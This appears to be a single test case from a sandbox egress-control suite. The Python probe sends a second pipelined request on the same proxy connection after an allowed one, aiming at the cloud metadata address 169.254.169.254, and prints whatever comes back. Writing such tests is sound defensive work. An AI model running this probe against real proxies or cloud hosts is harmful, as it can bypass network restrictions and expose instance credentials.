# title: asks for another host on the same connection to the proxy
# harm: learns
# egress: public.example:80
# B: no network at all
# C: one request a connection
proxy = 'HTTP_PROXY' in env
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('169.254.169.254', 80), 2); s.settimeout(1)
first = b'GET http://public.example/ HTTP/1.1\r\nHost: public.example\r\n\r\n' if proxy else b''
s.send(first + b'GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n')
try:
    while part := s.recv(4096): print(part)
except OSError as e: print(e)
